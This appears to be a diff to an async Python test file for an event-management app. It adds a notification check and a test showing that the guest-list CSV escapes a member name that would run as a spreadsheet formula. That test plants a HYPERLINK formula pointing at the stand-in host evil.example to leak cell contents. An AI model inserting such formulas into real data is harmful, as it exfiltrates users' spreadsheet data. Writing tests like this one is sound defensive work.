@@ -5,6 +5,8 @@ in one line with nothing changed."""
 
 from __future__ import annotations
 
+import csv
+import io
 import secrets
 from datetime import timedelta
 
@@ -192,7 +194,7 @@ async def test_posting_to_an_unknown_event_changes_nothing(
     assert await audited(concierge) == []
 
 
-async def test_editing_keeps_every_answer_whole_and_is_audited(
+async def test_editing_keeps_every_answer_whole_tells_the_guests_of_a_move_and_is_audited(
     concierge: Concierge, browser: httpx.AsyncClient
 ) -> None:
     event_id = await an_event(concierge, plus_ones=1)
@@ -211,6 +213,9 @@ async def test_editing_keeps_every_answer_whole_and_is_audited(
     assert "Sapphire night" in page.text and "2 held of 10" in page.text
     assert "coming" in page.text.split('id="guests"')[1]
     assert await audited(concierge) == [f"event-edited {event_id}"]
+    async with concierge.db.unit_of_work() as uow:
+        told = [(row.kind, row.member_id) for row in await outbox.latest(uow, 10, None)]
+    assert told == [("event_moved", giulia.id)]  # 18:00 became 18:30, and a place was given
 
 
 async def test_invite_then_cancel_with_a_confirmation_tells_the_guests(
@@ -255,6 +260,24 @@ async def test_the_guest_list_downloads_as_the_clis_csv(
     assert download.text == (
         "member,name,answer,guests,checked_in\nM00001,Member 1,going,2,2026-11-24 11:00\n"
     )
+
+
+async def test_a_name_that_would_run_as_a_formula_downloads_as_text(
+    concierge: Concierge, browser: httpx.AsyncClient
+) -> None:
+    event_id = await an_event(concierge)
+    member = await enrol(concierge, 1)
+    async with concierge.db.unit_of_work() as uow:
+        row = await uow.members.get(member.id)
+        assert row is not None
+        row.name = '=HYPERLINK("http://evil.example/?"&A1,"Prize")'
+        await uow.commit()
+    await going(concierge, member, event_id)
+    await signed(concierge, browser)
+    download = await browser.get(f"/office/events/{event_id}/guests.csv")
+    assert list(csv.reader(io.StringIO(download.text)))[1] == [
+        "M00001", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Prize\")", "going", "0", ""
+    ]  # fmt: skip
 
 
 async def test_check_in_at_the_door_answers_in_one_line(
